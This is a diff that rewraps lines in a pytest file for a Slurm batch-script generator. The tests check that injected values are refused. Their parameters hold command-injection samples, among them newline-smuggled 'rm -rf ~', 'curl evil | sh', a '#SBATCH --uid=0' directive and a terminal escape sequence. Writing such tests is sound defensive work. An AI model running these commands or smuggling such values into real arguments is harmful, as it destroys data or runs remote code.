@@ -20,7 +20,9 @@ pytestmark = pytest.mark.timeout(60)
 
 def _script(runs_dir: Path = Path("/tmp/runs"), **flags) -> str:
     keys = {"partition": None, "time_limit": None, "extra_sbatch": [], "overrides": [], **flags}
-    return batch_script(config=Path("/tmp/job.yaml"), name="job", nodes=2, runs_dir=runs_dir, python="/usr/bin/python3", **keys)
+    return batch_script(
+        config=Path("/tmp/job.yaml"), name="job", nodes=2, runs_dir=runs_dir, python="/usr/bin/python3", **keys
+    )
 
 
 def _sbatch_words(line: str) -> list[str]:
@@ -66,13 +68,16 @@ def _directives(script: str) -> list[list[str]]:
     return found
 
 
-@pytest.mark.parametrize(("flag", "keys"), [
-    ("--partition", {"partition": "gpu\nrm -rf ~"}),
-    ("--time", {"time_limit": "1:00:00\r"}),
-    ("--sbatch-arg", {"extra_sbatch": ["--gpus-per-node=8\n#SBATCH --uid=0"]}),
-    ("--sbatch-arg", {"extra_sbatch": ["--comment=\x1b]0;title\x07"]}),
-    ("--runs-dir", {"runs_dir": Path("/tmp/runs\ncurl evil | sh")}),
-])
+@pytest.mark.parametrize(
+    ("flag", "keys"),
+    [
+        ("--partition", {"partition": "gpu\nrm -rf ~"}),
+        ("--time", {"time_limit": "1:00:00\r"}),
+        ("--sbatch-arg", {"extra_sbatch": ["--gpus-per-node=8\n#SBATCH --uid=0"]}),
+        ("--sbatch-arg", {"extra_sbatch": ["--comment=\x1b]0;title\x07"]}),
+        ("--runs-dir", {"runs_dir": Path("/tmp/runs\ncurl evil | sh")}),
+    ],
+)
 def test_a_value_that_cannot_be_a_directive_is_refused_naming_its_flag(flag, keys):
     with pytest.raises(UsageError, match=f"^{flag} ") as refused:
         _script(**keys)
@@ -81,11 +86,22 @@ def test_a_value_that_cannot_be_a_directive_is_refused_naming_its_flag(flag, key
 
 def test_values_with_spaces_hashes_quotes_and_percents_are_read_back_whole():
     runs = Path("/tmp/my runs #1/100%'\"x")
-    script = _script(runs, partition="gpu debug", time_limit="1:00:00", extra_sbatch=["-A acct", "--comment='a # b'", "--gpus-per-node=8"])
+    script = _script(
+        runs,
+        partition="gpu debug",
+        time_limit="1:00:00",
+        extra_sbatch=["-A acct", "--comment='a # b'", "--gpus-per-node=8"],
+    )
     assert _directives(script) == [
-        ["--job-name=job"], ["--nodes=2"], ["--ntasks-per-node=1"],
+        ["--job-name=job"],
+        ["--nodes=2"],
+        ["--ntasks-per-node=1"],
         [f"--output={str(runs).replace('%', '%%')}/slurm-%j.out"],  # sbatch's %% is one %
-        ["--partition=gpu debug"], ["--time=1:00:00"], ["-A", "acct"], ["--comment=a # b"], ["--gpus-per-node=8"],
+        ["--partition=gpu debug"],
+        ["--time=1:00:00"],
+        ["-A", "acct"],
+        ["--comment=a # b"],
+        ["--gpus-per-node=8"],
     ]
     assert subprocess.run(["bash", "-n"], input=script, text=True).returncode == 0
     # What the shell runs names the runs directory whole.
@@ -97,7 +113,9 @@ def test_the_cli_refuses_before_writing_anything(tmp_path):
     runs = tmp_path / "runs"
     result = rpcctl("sbatch", str(config), "--partition", "gpu\nid", "--runs-dir", str(runs))
     assert result.returncode == 2, result.stderr
-    assert result.stderr.startswith("error: --partition 'gpu\\nid': a newline") and len(result.stderr.splitlines()) == 1, result.stderr
+    assert (
+        result.stderr.startswith("error: --partition 'gpu\\nid': a newline") and len(result.stderr.splitlines()) == 1
+    ), result.stderr
     assert not runs.exists()
 
 
